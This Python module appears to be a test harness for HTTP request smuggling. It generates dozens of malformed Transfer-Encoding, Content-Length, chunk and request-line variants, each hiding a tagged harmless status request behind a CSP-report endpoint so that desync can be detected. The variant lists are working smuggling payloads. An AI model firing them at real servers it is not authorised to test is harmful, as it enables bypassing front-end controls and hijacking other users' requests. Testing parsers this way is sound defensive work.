"""Requests that two parsers may read in two ways: where the first of them ends, another one is hidden."""

from collections.abc import Iterator

MARK = "smuggled-{}"
PATH = b"/api/v1/csp-reports"
_PLAIN = b"Content-Type: application/json\r\n"

CODINGS: tuple[bytes, ...] = (
    b"Transfer-Encoding: chunked",
    b" Transfer-Encoding: chunked",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding:\x0cchunked",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer_Encoding: chunked",
    b"X: x\nTransfer-Encoding: chunked",
    b"X: x\rTransfer-Encoding: chunked",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding: chunk\r\n ed",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: CHUNKED",
    b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding: chunked;q=1",
    b"Transfer-Encoding\x00: chunked",
    b"Transfer-Encoding: ,chunked",
)
LENGTHS: tuple[bytes, ...] = (
    b"Content-Length: 2\r\nContent-Length: %d",
    b"Content-Length: %d\r\nContent-Length: 2",
    b"Content-Length: 2, %d",
    b"Content-Length: +2\r\nX: %d",
    b"Content-Length: -2\r\nX: %d",
    b"Content-Length: 0x2\r\nX: %d",
    b"Content-Length: 2 0\r\nX: %d",
    b"Content-Length: 2;\r\nX: %d",
    b"Content-Length: \r\nX: %d",
    b"Content-Length: 18446744073709551618\r\nX: %d",
    b"Content-Length: 2\x00\r\nX: %d",
    b"Content-Length : %d",
    b"Content-Length:\r\n 2\r\nX: %d",
    b"Content_Length: %d\r\nContent-Length: 2",
)
CHUNKS: tuple[bytes, ...] = (
    b"0x2\r\n[]\r\n0\r\n\r\n",
    b"+2\r\n[]\r\n0\r\n\r\n",
    b"-2\r\n[]\r\n0\r\n\r\n",
    b" 2\r\n[]\r\n0\r\n\r\n",
    b"2 x\r\n[]\r\n0\r\n\r\n",
    b"2\n[]\r\n0\r\n\r\n",
    b"2;a\nb\r\n[]\r\n0\r\n\r\n",
    b"2\r\n[]0\r\n\r\n",
    b"2\r\n[]\n0\r\n\r\n",
    b"10000000000000002\r\n[]\r\n0\r\n\r\n",
    b"2\r\n[]\r\n0\r\nContent-Length: 99\r\n\r\n",
    b"2\r\n[]\r\n0\n\n",
    b"2_0\r\n[]\r\n0\r\n\r\n",
)
LINES: tuple[bytes, ...] = (
    b"POST %s HTTP/1.0\r\nHost: x\r\nTransfer-Encoding: chunked",
    b"POST %s HTTP/1.1\r\nHost: x\r\nHost: y\r\nTransfer-Encoding: chunked",
    b"POST  %s  HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked",
    b"POST\t%s HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked",
    b"POST %s HTTP/1.1\nHost: x\nTransfer-Encoding: chunked",
    b"POST %s HTTP/1.1\r\nHost: x\r\n\r\nX: y\r\nTransfer-Encoding: chunked",
    b"POST http://y%s HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked",
    b"POST %s HTTP/1.1 HTTP/1.0\r\nHost: x\r\nTransfer-Encoding: chunked",
)


def forms() -> Iterator[tuple[str, bytes]]:
    """Each form as it goes out, with a name."""
    number = 0
    for kind, made in (
        ("end early", _coded),
        ("end late", _counted),
        ("length", _lengths),
        ("chunk", _chunks),
    ):
        for shape, text in made():
            yield f"{kind} {shape!r}", text.replace(b"NUMBER", str(number).encode())
            number += 1
    for line in LINES:
        head = line % PATH + b"\r\n" + _PLAIN + b"\r\n0\r\n\r\n"
        yield f"line {line[:40]!r}", (head + _hidden()).replace(b"NUMBER", str(number).encode())
        number += 1


def _hidden() -> bytes:
    """Told apart by its request id, which nginx replaces in all that it passes on."""
    return b"GET /api/v1/status HTTP/1.1\r\nHost: x\r\nX-Request-ID: smuggled-NUMBER\r\n\r\n"


def _head(*more: bytes) -> bytes:
    return b"\r\n".join((b"POST " + PATH + b" HTTP/1.1", b"Host: x", *more, _PLAIN + b"\r\n"))


def _coded() -> Iterator[tuple[bytes, bytes]]:
    """By its length the body holds the hidden request; by its coding it ends before that."""
    body = b"0\r\n\r\n" + _hidden()
    for coding in CODINGS:
        yield coding, _head(b"Content-Length: %d" % len(body), coding) + body


def _counted() -> Iterator[tuple[bytes, bytes]]:
    """By its coding the body holds the hidden request; by its length it ends before that."""
    inner = _hidden()
    for coding in CODINGS:
        body = b"%x\r\n%s\r\n0\r\n\r\n" % (len(inner), inner)
        yield coding, _head(b"Content-Length: %d" % (body.index(b"\r\n") + 2), coding) + body


def _lengths() -> Iterator[tuple[bytes, bytes]]:
    for length in LENGTHS:
        body = b"[]" + _hidden()
        yield length, _head(length % len(body)) + body


def _chunks() -> Iterator[tuple[bytes, bytes]]:
    for chunks in CHUNKS:
        yield chunks, _head(b"Transfer-Encoding: chunked") + chunks + _hidden()
